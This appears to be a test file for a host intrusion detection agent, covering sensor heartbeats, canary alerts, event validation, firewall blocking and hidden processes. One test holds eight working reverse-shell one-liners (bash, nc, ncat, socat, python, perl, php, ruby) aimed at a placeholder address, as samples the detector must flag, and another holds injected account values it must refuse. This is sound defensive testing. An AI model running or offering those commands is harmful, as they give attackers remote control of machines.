import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { testRoomContext } from '@demarc/platform/contract/testing';
import { validateOcsf } from '@demarc/platform/ocsf';
import { Blocking } from './agent/blocking.ts';
import { HiddenProcesses, LOOKS_PER_INSPECTION } from './agent/hidden.ts';
import { listProcesses } from './agent/proc.ts';
import { readState, writeState } from './agent/state-file.ts';
import { type ProcessFacts, SUSPICIONS, suspicionOf } from './agent/suspicion.ts';
import { blockToOcsf, detectionToOcsf, suspicionToOcsf } from './agent/to-ocsf.ts';
import { countersOf } from './agent/watch-table.ts';
import { canaryOf, canaryToOcsf } from './canary.ts';
import {
  ALERT_BOUND_MS,
  alertEvidence,
  canaryEvidence,
  contentEvidence,
  heartbeatEvidence,
} from './evidence.ts';
import { type DetectionKind, detection, KINDS } from './network/detection.ts';
import { describeOrder, ORDER_KINDS } from './orders.ts';
import { HostIntrusionDetectionPolicy } from './policy.ts';

const host = testRoomContext({ stateDirectory: '/nowhere' }).host;
const alive = { isAlive: true, because: 'watching', waiting: 0, waitingMax: 10 };
const sensors = { network: alive, logs: alive, processes: alive };

test('a heartbeat passes only when every sensor is alive and none is blocked', () => {
  assert.equal(heartbeatEvidence({ sensors, dropped: 0 }).result, 'pass');
  const silent = { ...sensors, logs: { ...alive, isAlive: false, because: 'no disk' } };
  assert.match(heartbeatEvidence({ sensors: silent, dropped: 0 }).because, /logs \(no disk\)/);
  const blocked = { ...sensors, network: { ...alive, waiting: 10 } };
  assert.equal(heartbeatEvidence({ sensors: blocked, dropped: 0 }).result, 'fail');
});

test('content passes only when what was asked for last is in force everywhere', () => {
  const inForce = { network: 'a', logs: 'a', processes: 'a' };
  assert.equal(contentEvidence({ wanted: 'a', inForce }).result, 'pass');
  assert.equal(contentEvidence({ wanted: undefined, inForce }).result, 'error');
  assert.equal(contentEvidence({ wanted: 'a', inForce, refused: 'x' }).result, 'fail');
  assert.match(contentEvidence({ wanted: 'a', inForce: { ...inForce, logs: undefined } }).because, /logs/);
});

test('of a canary the agent says which kinds did not come back; that all did is not for it to say', () => {
  const results = {
    network: { returnedAfterMs: 10 },
    logs: { returnedAfterMs: 20 },
    processes: { returnedAfterMs: 30 },
  };
  assert.equal(canaryEvidence({ boundMs: 30, results }), undefined);
  assert.match(canaryEvidence({ boundMs: 29, results })?.because ?? '', /processes/);
  const gone = { ...results, network: { returnedAfterMs: undefined } };
  assert.equal(canaryEvidence({ boundMs: 30, results: gone })?.result, 'fail');
  const untried = { ...results, network: { returnedAfterMs: undefined, obstacle: 'no tun' } };
  assert.equal(canaryEvidence({ boundMs: 30, results: untried })?.result, 'error');
});

test('a canary passes only when it came to the platform in time, and a rule matches each kind of it', () => {
  const setAtMs = 1_764_000_000_000;
  const rules = { network: ['a'], logs: ['b'], processes: ['c'] };
  const of = (atMs: number, matched = rules) =>
    alertEvidence({ setAtMs, nowMs: atMs, arrived: { atMs, uid: 'u', rules: matched } });
  assert.equal(of(setAtMs + ALERT_BOUND_MS)?.result, 'pass');
  assert.match(of(setAtMs + ALERT_BOUND_MS + 1_000)?.because ?? '', /after 121 s; the bound is 120 s/);
  assert.deepEqual(of(setAtMs + 1_000, { ...rules, logs: [] }), {
    ...of(setAtMs + 1_000, { ...rules, logs: [] }),
    result: 'fail',
    because: 'Harmless triggers came to the SIEM, and no rule in force makes an alert of them: logs.',
  });
  const nothing = (afterMs: number) =>
    alertEvidence({ setAtMs, nowMs: setAtMs + afterMs, arrived: undefined });
  assert.equal(nothing(ALERT_BOUND_MS), undefined);
  assert.equal(nothing(ALERT_BOUND_MS + 1)?.result, 'fail');
  assert.match(nothing(ALERT_BOUND_MS + 1)?.because ?? '', /nothing of it came to the SIEM within 120 s/);
});

test('a canary is a valid event, is read as it was written, and whatever else is none', () => {
  const suspicion = {
    kind: 'temporary-program',
    technique: SUSPICIONS['temporary-program'],
    because: 'x',
    atMs: 1,
    process: shell,
    ancestry: [],
  } as const;
  const alarm = suspicionToOcsf(suspicion, host);
  const event = canaryToOcsf({ processes: alarm, logs: undefined }, 1_764_000_000_000, host);
  assert.deepEqual(validateOcsf(event), { ok: true });
  const sent = JSON.parse(JSON.stringify(event)) as typeof event;
  assert.deepEqual(canaryOf(sent), { setAtMs: 1_764_000_000_000, alarms: { processes: alarm } });
  assert.equal(canaryOf(alarm), undefined);
  const forged = { setAtMs: 1, alarms: { processes: 'nothing' } };
  assert.equal(canaryOf({ ...event, unmapped: { canary: forged } } as never), undefined);
});

const shell: ProcessFacts = {
  pid: 4_711,
  exe: '/usr/bin/bash',
  name: 'bash',
  commandLine: 'bash',
  uid: 33,
  startedAtMs: 1_764_000_000_000,
};
const of = (facts: Partial<ProcessFacts>, parent?: string): string | undefined =>
  suspicionOf(
    { ...shell, ...facts },
    parent === undefined ? [] : [{ ...shell, pid: 1_000, name: parent, exe: `/usr/sbin/${parent}` }],
    (path) => path.startsWith('/tmp/'),
    1_764_000_000_000,
  )?.kind;

test('what an intruder starts is told from what an administrator starts', () => {
  for (const [name, commandLine] of [
    ['bash', 'bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'],
    ['nc', 'nc -e /bin/sh 203.0.113.9 4444'],
    ['ncat', 'ncat --exec /bin/bash -l 4444'],
    ['socat', 'socat exec:bash -li,pty,stderr tcp:203.0.113.9:4444'],
    [
      'python3.11',
      'python3 -c import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.9",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh"])',
    ],
    ['perl', 'perl -e use Socket;socket(S,PF_INET,SOCK_STREAM,6);open(STDIN,">&S");exec("/bin/sh -i");'],
    ['php8.2', 'php -r $s=fsockopen("203.0.113.9",4444);exec("/bin/sh -i <&3 >&3 2>&3");'],
    [
      'ruby3.1',
      'ruby -rsocket -e f=TCPSocket.open("203.0.113.9",4444).to_i;exec sprintf("/bin/sh -i <&%d",f)',
    ],
  ] as const)
    assert.equal(of({ name, commandLine }), 'reverse-shell', commandLine);
  assert.equal(of({ isOnConnection: true }), 'reverse-shell');
  assert.equal(of({ name: 'sh' }, 'nginx'), 'child-of-server');
  assert.equal(of({ name: 'python3.11' }, 'php-fpm8.2'), 'child-of-server');
  assert.equal(of({ name: 'curl' }, 'postgres'), 'child-of-server');
  assert.equal(of({ exe: '/tmp/x', name: 'x' }), 'temporary-program');
  assert.equal(of({ exe: '/memfd:x (deleted)', name: 'memfd:x' }), 'program-without-file');
  assert.equal(of({ exe: '/usr/bin/x (deleted)', name: 'x' }), 'program-without-file');
  for (const [facts, parent] of [
    [{ commandLine: 'bash -c ls' }, 'sshd'],
    [{ name: 'nc', commandLine: 'nc -z db-1 5432' }, 'bash'],
    [{ name: 'socat', commandLine: 'socat tcp-listen:80,fork tcp:10.0.0.2:80' }, 'systemd'],
    [{ name: 'python3.11', commandLine: 'python3 -c import socket; print(socket.gethostname())' }, 'bash'],
    [{ name: 'nginx', exe: '/usr/sbin/nginx' }, 'nginx'],
    [{ exe: '/memfd:runc_cloned:/proc/self/exe (deleted)', name: 'runc' }, 'containerd-shim'],
    [{ exe: '/usr/bin/tmpwatch', name: 'tmpwatch', commandLine: 'tmpwatch /tmp' }, 'cron'],
  ] as const)
    assert.equal(of(facts, parent), undefined, JSON.stringify(facts));
});

test('everything that is said is a valid event, and the same event twice has one uid', () => {
  for (const kind of Object.keys(KINDS) as DetectionKind[]) {
    const found = detection({
      kind,
      firstAtMs: 1_764_000_000_000.5,
      lastAtMs: 1_764_000_000_100.25,
      sources: ['203.0.113.9'],
      targets: ['192.0.2.1'],
      ports: [22],
      evidence: { probes: 10 },
      because: 'it asked',
      sourceIsProved: true,
    });
    const event = detectionToOcsf(found, false, host);
    assert.deepEqual(validateOcsf(event), { ok: true }, kind);
    assert.equal(detectionToOcsf(found, false, host).metadata.uid, event.metadata.uid);
    assert.deepEqual(
      validateOcsf(detectionToOcsf({ ...found, sources: [], targets: [], ports: [] }, true, host)),
      {
        ok: true,
      },
    );
  }
  for (const action of ['blocked', 'prolonged', 'spared', 'unblocked', 'expired'] as const)
    for (const obstacle of [undefined, 'no firewall'])
      assert.deepEqual(
        validateOcsf(
          blockToOcsf(
            {
              atMs: 1,
              action,
              range: '2001:db8::/64',
              by: { detection: 'syn-scan' },
              because: 'x',
              untilMs: 2,
            },
            1,
            obstacle,
            host,
          ),
        ),
        { ok: true },
      );
  for (const kind of Object.keys(SUSPICIONS) as (keyof typeof SUSPICIONS)[]) {
    const found = {
      kind,
      technique: SUSPICIONS[kind],
      because: 'x',
      atMs: 1,
      process: shell,
      ancestry: [shell],
    };
    assert.deepEqual(validateOcsf(suspicionToOcsf(found, host)), { ok: true });
    assert.deepEqual(validateOcsf(suspicionToOcsf({ ...found, module: 'evil', ancestry: [] }, host)), {
      ok: true,
    });
  }
});

test('an order is described in a sentence, or refused with the field that is wrong', () => {
  assert.deepEqual(ORDER_KINDS, [
    'block-address',
    'unblock-address',
    'isolate-host',
    'kill-process-tree',
    'disable-account',
  ]);
  assert.deepEqual(describeOrder('block-address', { range: '203.0.113.0/24' }), {
    ok: true,
    says: 'Nothing from or to 203.0.113.0/24 passes the machine’s firewall, unless it is on the allow-list.',
    isUndone: true,
  });
  for (const [kind, what] of [
    ['block-address', { range: 'everyone' }],
    ['kill-process-tree', { pid: 1, startedAtMs: 0 }],
    ['disable-account', { account: '--root=/' }],
    ['disable-account', { account: 'a;b' }],
    ['format-disk', {}],
  ] as const)
    assert.equal(describeOrder(kind, what).ok, false, kind);
});

test('blocks are kept over a restart, and end where somebody is allowed from then on', async () => {
  const directory = mkdtempSync(join(tmpdir(), 'demarc-hid-'));
  let now = 1_764_000_000_000;
  let allowed: readonly string[] = [];
  const kernel = new Set<string>();
  const context = testRoomContext({ stateDirectory: directory, now: () => now });
  let isStuck = false;
  const firewall = {
    drops: true,
    allowed: () => allowed,
    block: async (range: string) => void kernel.add(range),
    unblock: async (range: string) => {
      if (isStuck) throw new Error('the kernel is busy');
      kernel.delete(range);
    },
    blocked: async () => [...kernel],
    isolate: async () => undefined,
  };
  const { network } = HostIntrusionDetectionPolicy.parse({});
  const first = new Blocking(context, network);
  assert.deepEqual(await first.block('203.0.113.9', 'Ada', 'x', now + 60_000), {
    isInForce: true,
    because: 'not dropped: no firewall of this agent is at work',
  });
  // The firewall comes later, and another agent runs by then.
  context.provide('network-blocking', firewall);
  const second = new Blocking(context, network);
  await second.tick();
  assert.deepEqual([...kernel], ['203.0.113.9']);
  allowed = ['203.0.113.0/24'];
  await second.tick();
  assert.deepEqual([...kernel], []);
  assert.equal((await second.block('203.0.113.9', 'Ada', 'x', now + 60_000)).isInForce, false);
  assert.equal((await second.block('198.51.100.20', 'Ada', 'x', now + 60_000)).isInForce, false);
  allowed = [];
  await second.tick();
  await second.block('203.0.113.10', 'Ada', 'x', now + 60_000);
  now += 61_000;
  await second.tick();
  assert.deepEqual([...kernel], []);
  // Let in while the kernel did not listen: it is asked again, and asked what it blocks.
  await second.block('203.0.113.11', 'Ada', 'x', now + 60_000);
  isStuck = true;
  assert.equal(await second.unblock('203.0.113.11', 'Ada', 'x'), true);
  assert.deepEqual([...kernel], ['203.0.113.11']);
  isStuck = false;
  now += 5_000;
  await second.tick();
  assert.deepEqual([...kernel], []);
  rmSync(directory, { recursive: true });
});

test('a state that is damaged is no state', () => {
  const directory = mkdtempSync(join(tmpdir(), 'demarc-hid-'));
  const file = join(directory, 'x.json');
  assert.equal(readState(file), undefined);
  writeState(file, { a: 1 });
  assert.deepEqual(readState(file), { a: 1 });
  rmSync(directory, { recursive: true });
});

test('a process that is in no list is found at the second look, once; none is where all are listed', () => {
  const hidden = new HiddenProcesses(() => listProcesses().filter((pid) => pid !== process.pid));
  const found: number[] = [];
  // Numbers begin again when all were looked at, and whoever was told is not told again.
  const looks = 2 * LOOKS_PER_INSPECTION + 2;
  for (let look = 0; look < looks; look += 1) found.push(...hidden.look());
  // Only where the numbers looked at reach it; then once.
  assert.ok(found.length <= 1 && found.every((pid) => pid === process.pid), String(found));
  assert.equal(found.length, process.pid < 2 * 32_768 ? 1 : 0);
  const open = new HiddenProcesses();
  assert.deepEqual([...open.look(), ...open.look(), ...open.look()], []);
});

test('counters are read from what libnftables answers', () => {
  const json = JSON.stringify({
    nftables: [
      { metainfo: {} },
      { counter: { name: 'seen', packets: 5 } },
      { counter: { name: 'unseen', packets: 7 } },
    ],
  });
  assert.deepEqual(countersOf(json), { seen: 5, unseen: 7 });
});
